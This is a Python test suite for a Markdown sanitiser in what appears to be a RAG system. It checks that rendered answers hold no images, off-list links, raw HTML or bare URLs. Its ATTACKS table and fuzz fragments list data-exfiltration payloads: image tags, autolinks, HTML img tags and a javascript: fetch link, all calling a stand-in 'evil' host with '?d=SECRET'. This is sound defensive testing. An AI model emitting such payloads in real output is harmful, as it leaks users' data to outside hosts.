"""rag.security.markdown: untrusted Markdown made inert (hardening issue, hole 6). Each output is parsed again
the way a renderer would, and must hold no image, no link off the allow-list, no raw HTML and no bare URL
outside code."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag.security.markdown import code, inert_markdown, inert_stream

_GFM = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def _offences(rendered: str, hosts: set[str] = frozenset()) -> list[str]:
    bad = []
    for block in _GFM.parse(rendered):
        if block.type == "html_block":
            bad.append(block.content)
        for t in block.children or []:
            if t.type == "image" or t.type == "html_inline":
                bad.append(f"{t.type}: {t.content}")
            elif t.type == "link_open" and not any(f"://{h}/" in str(t.attrs["href"]) for h in hosts):
                bad.append(f"link: {t.attrs['href']}")
            elif t.type == "text" and re.search(r"(?i)(https?://|www\.)\w", t.content):
                bad.append(f"bare URL: {t.content}")
    return bad


ATTACKS = {
    "inline image": "![x](http://evil/leak?d=SECRET)",
    "reference image": "![a][r]\n\n[r]: http://evil/ref?d=SECRET",
    "collapsed reference": "![r][]\n\n[r]: <http://evil/ref?d=SECRET> \"title\"",
    "nested brackets": "![a [b] ![c](http://evil/c)](http://evil/a?d=SECRET)",
    "link in image label": "[![x](http://evil/i)](http://evil/l)",
    "autolink": "<http://evil/auto?d=SECRET>",
    "bare URL": "see http://evil/bare?d=SECRET and www.evil.com",
    "html img": '<img src="http://evil/html?d=SECRET">',
    "inline html img": 'text <img src=http://evil/i> more',
    "html picture block": '<picture><source srcset="http://evil/s"></picture>',
    "entity-disguised": "&#33;[x](http://evil/e) &lt;img src=http://evil/x&gt;",
    "escaped then real": "\\![x](http://evil/1) ![y](http://evil/2)",
    "image in list and quote": "- ![x](http://evil/l)\n\n> ![y](http://evil/q)",
    "image in table": "| a |\n|---|\n| ![x](http://evil/t) |",
    "relative link": "[here](/admin) [anchor](#top) [proto](//evil/p)",
    "javascript link": "[click](javascript:fetch('http://evil'))",
}


def test_each_attack_comes_out_inert():
    for name, text in ATTACKS.items():
        out = inert_markdown(text)
        assert not _offences(out), (name, out, _offences(out))


def test_the_reader_still_sees_what_was_attempted():
    out = inert_markdown("Done [1]. ![status](http://evil/leak?d=S) and [the portal](http://evil/click).")
    assert "image: status — evil" in out
    assert "the portal (`http://evil/click`)" in out
    assert "[image: a — evil]" in inert_markdown(ATTACKS["reference image"]).replace("\\", "")


def test_links_to_allowed_hosts_stay_links_and_images_never_load():
    out = inert_markdown("[wiki](https://wiki.example.com/p) ![x](https://wiki.example.com/i.png) "
                         "[other](https://evil/p)", link_hosts=["Wiki.Example.com"])
    assert "[wiki](<https://wiki.example.com/p>)" in out
    assert _offences(out, {"wiki.example.com"}) == []
    assert "image: x — wiki.example.com" in out and "`https://evil/p`" in out


def test_ordinary_answers_keep_their_formatting_and_dollars_are_not_latex():
    text = ("# Leave\n\n**Vacation** is *25 days* [1], ~~20~~.\n\n- one\n- two `a|b`\n\n1. first\n2. second\n\n"
            "> quoted\n\n```python\nx = '![x](http://e)'\n```\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\nCosts $200 to $300.")
    out = inert_markdown(text)
    for kept in ("# Leave", "**Vacation**", "*25 days*", "~~20~~", "- one", "`a|b`", "1. first", "> quoted",
                 "```python\nx = '![x](http://e)'\n```", "|:--|--:|", r"\$200"):
        assert kept in out, (kept, out)
    html = _GFM.render(out)
    assert "<table>" in html and "<ol>" in html and "<code class=\"language-python\">" in html
    assert "$200" in html and "\\$" not in html


def test_code_spans_hold_any_backticks():
    for s in ["a`b", "``", "`x`", " lead"]:
        tokens = _GFM.parseInline(code(s))[0].children
        assert [t.type for t in tokens] == ["code_inline"]


def test_an_image_split_across_stream_chunks_never_renders():
    answer = "Reimbursed in 30 days [1].\n\n![x](http://evil/leak?d=SECRET) and <http://evil/a> [p](http://evil/p)"
    for size in (1, 2, 3, 5, 7):
        pieces = [answer[i:i + size] for i in range(0, len(answer), size)]
        shown = list(inert_stream(pieces))
        assert len(shown) == len(pieces)
        for s in shown:
            assert not _offences(s), (size, s)
    assert "image: x — evil" in shown[-1]


_PARTS = st.sampled_from(["![", "[", "]", "(", ")", "<", ">", "http://evil/x", "www.evil.com", "img src=",
                          "\n", "\n\n", " ", "a", ":", "`", "*", "[r]: ", "\\", "!", "|", "- ", "> ", "&lt;",
                          "&#33;", "#", "\"", "'", "1. ", "    "])


@settings(max_examples=300, deadline=None)
@given(st.lists(_PARTS, max_size=40))
def test_no_input_yields_anything_that_loads(parts):
    text = "".join(parts)
    out = inert_markdown(text)
    assert not _offences(out), (text, out)
